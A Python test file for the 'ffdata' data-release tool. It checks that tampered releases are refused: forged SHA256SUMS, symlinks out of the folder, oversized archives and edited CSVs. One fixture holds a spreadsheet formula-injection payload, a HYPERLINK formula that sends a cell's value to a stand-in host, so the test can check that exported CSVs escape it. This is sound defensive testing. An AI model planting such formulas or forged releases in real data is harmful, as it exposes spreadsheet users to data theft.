"""Refusals of a release given by path or folder (``ffdata diff``, ``ffdata validate`` and
``load(release=)``): only a release's files, bounded before anything is read or written, no
link out of the folder, ``SHA256SUMS`` required of a release, each table against its own
``datapackage.json``; and every CSV a command writes escaped as the published ones."""

from __future__ import annotations

import csv
import hashlib
import io
import shutil
import zipfile
from pathlib import Path
from unittest import mock

import pytest
from refusals import Case, Workspace, accepted, corpus_test, refused
from support import ROOT, rehash

import ffdata
from ffdata.errors import FfdataError, ReleaseError

RELEASE_010 = ROOT / "releases" / "ffdata-data-0.1.0.zip"
VERSION = "9.9.9"  # not a known version: the archive is checked on its own SHA256SUMS
TOP = f"ffdata-data-{VERSION}"
COUNTRIES = "data/processed/countries.csv"


def _release_files() -> dict[str, bytes]:
    with zipfile.ZipFile(RELEASE_010) as archive:
        return {
            i.filename.split("/", 1)[1]: archive.read(i)
            for i in archive.infolist()
            if not i.is_dir()
        }


def _sums(files: dict[str, bytes]) -> bytes:
    lines = [f"{hashlib.sha256(d).hexdigest()}  {n}\n" for n, d in sorted(files.items())]
    return "".join(lines).encode()


def _archive(ws: Workspace, extra: dict[str, bytes]) -> Path:
    """A release archive of an unknown version in the folder outside, with ``extra`` files
    listed in its SHA256SUMS (as a forger would)."""
    files = {n: d for n, d in _release_files().items() if n != "SHA256SUMS"} | extra
    path = ws.outside / f"{TOP}.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**files, "SHA256SUMS": _sums(files)}.items():
            archive.writestr(f"{TOP}/{name}", data)
    return path


def _folder(ws: Workspace) -> Path:
    """The release unpacked in the folder outside."""
    folder = ws.outside / TOP
    for name, data in _release_files().items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder


def _resum(folder: Path) -> None:
    """SHA256SUMS (and the tables' sha256 in datapackage.json) recomputed, as a forger would."""
    rehash(folder)
    files = {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file() and p.name != "SHA256SUMS"
    }
    (folder / "SHA256SUMS").write_bytes(_sums(files))


def _forged_countries(folder: Path) -> None:
    path = folder / COUNTRIES
    path.write_text(path.read_text(encoding="utf-8").replace(",528,", ",529,"), encoding="utf-8")


# --- damages: each leaves a release (or package) at ws.outside/<TOP>[.zip] -----------------


def padding_listed(ws):
    _archive(ws, {"padding.csv": b"0" * 100_000})


def document_too_large(ws):
    _archive(ws, {"documents/big.txt": b"0" * 2_000_000})


def too_many_entries(ws):
    _archive(ws, {f"documents/e{i:04d}.txt": b"" for i in range(150)})


def folder_link_to_changed_copy(ws):
    folder = _folder(ws)
    copy = ws.outside / "changed.csv"
    text = (folder / COUNTRIES).read_text(encoding="utf-8")
    copy.write_text(text.replace(",528,", ",529,"), encoding="utf-8")
    (folder / COUNTRIES).unlink()
    (folder / COUNTRIES).symlink_to(copy)
    _resum(folder)


def folder_documents_link(ws):
    folder = _folder(ws)
    (ws.outside / "elsewhere").mkdir()
    (folder / "documents").symlink_to(ws.outside / "elsewhere")


def sums_deleted_tables_rehashed(ws):
    folder = _folder(ws)
    _forged_countries(folder)
    rehash(folder)
    (folder / "SHA256SUMS").unlink()


def sums_deleted_csv_edited(ws):
    folder = _folder(ws)
    _forged_countries(folder)
    (folder / "SHA256SUMS").unlink()


def package_csv_edited(ws):
    package = ws.outside / "package"
    (package / "data").mkdir(parents=True)
    shutil.copytree(ws.out / "data" / "processed", package / "data" / "processed")
    shutil.copy(ws.out / "datapackage.json", package / "datapackage.json")
    _forged_countries(package)


def folder_padding_listed(ws):
    folder = _folder(ws)
    (folder / "padding.csv").write_bytes(b"0" * 1000)
    _resum(folder)


def formula_in_new_package(ws):
    package = ws.outside / "package"
    (package / "data").mkdir(parents=True)
    shutil.copytree(ws.out / "data" / "processed", package / "data" / "processed")
    shutil.copy(ws.out / "datapackage.json", package / "datapackage.json")
    path = package / COUNTRIES
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace(",Netherlands,", ',"=HYPERLINK(""http://x""&A1,""click"")",'))
    rehash(package)


#: Each damage, where it leaves what is read, and which protection refuses it.
DAMAGES = {
    "archive: padding.csv listed in SHA256SUMS": (padding_listed, "zip", "a file of a release"),
    "archive: a document past the size bound": (document_too_large, "zip", "unpacks to"),
    "archive: more entries than a release holds": (too_many_entries, "zip", "entries"),
    "folder: countries.csv a link to a changed copy, sums redone": (
        folder_link_to_changed_copy,
        "dir",
        "symbolic link",
    ),
    "folder: documents/ a link to a folder outside": (folder_documents_link, "dir", "link"),
    "folder: SHA256SUMS deleted, a CSV and its sha256 forged": (
        sums_deleted_tables_rehashed,
        "dir",
        "without its SHA256SUMS",
    ),
    "folder: SHA256SUMS deleted, a CSV edited": (sums_deleted_csv_edited, "dir", "SHA256SUMS"),
    "folder: padding.csv listed in SHA256SUMS": (
        folder_padding_listed,
        "dir",
        "not one of the release's",
    ),
    "package folder: a CSV edited, its datapackage.json not": (
        package_csv_edited,
        "package",
        "differs from datapackage.json",
    ),
}
BOUNDS = lambda: mock.patch.multiple("ffdata.verify", MAX_BYTES=1_000_000, MAX_ENTRIES=100)  # noqa: E731


def _target(ws: Workspace, where: str) -> str:
    return str(
        {"zip": ws.outside / f"{TOP}.zip", "dir": ws.outside / TOP}.get(
            where, ws.outside / "package"
        )
    )


def _diffed(damage, where: str, says: str) -> Case:
    argv = lambda ws: ["diff", str(ws.out), _target(ws, where)]  # noqa: E731
    return refused(damage, ReleaseError, says, at_line=False, argv=argv, patch=BOUNDS)


def live_formulas(ws, out: str) -> str | None:
    cells = [c for row in csv.reader(io.StringIO(out)) for c in row]
    live = [c for c in cells if c[:1] in ("=", "+", "@")]
    return f"live formula cells: {live}" if live else None


CASES = {
    **{label: _diffed(*spec) for label, spec in DAMAGES.items()},
    "validate: a release folder whose SHA256SUMS was deleted": refused(
        sums_deleted_tables_rehashed,
        FfdataError,
        "SHA256SUMS",
        at_line=False,
        argv=lambda ws: ["validate", "--skip-frictionless", _target(ws, "dir")],
    ),
    "diff --format csv: a formula cell arrives escaped": accepted(
        formula_in_new_package,
        "'=HYPERLINK",
        argv=lambda ws: ["diff", "--format", "csv", str(ws.out), _target(ws, "package")],
        check=live_formulas,
    ),
}

test_each_release_given_by_path_is_trusted_only_as_verified = corpus_test(__file__, CASES)


@pytest.mark.parametrize("label", list(DAMAGES))
def test_load_refuses_what_diff_refuses(label, tmp_path, monkeypatch):
    """``load(release=)`` runs the same check (a fresh cache: nothing is kept)."""
    monkeypatch.setenv("FFDATA_CACHE_DIR", str(tmp_path / "cache"))
    damage, where, says = DAMAGES[label]
    ws = Workspace(tmp_path / "raw", tmp_path / "out", tmp_path / "outside")
    ws.outside.mkdir()
    shutil.copytree(ROOT / "data" / "processed", ws.out / "data" / "processed")
    shutil.copy(ROOT / "datapackage.json", ws.out / "datapackage.json")
    damage(ws)
    with BOUNDS(), pytest.raises(ReleaseError, match=says.replace("'", ".")):
        ffdata.load("countries", release=_target(ws, where))
    cached = list((tmp_path / "cache").glob("*")) if (tmp_path / "cache").exists() else []
    assert [p for p in cached if not p.name.startswith(".")] == []
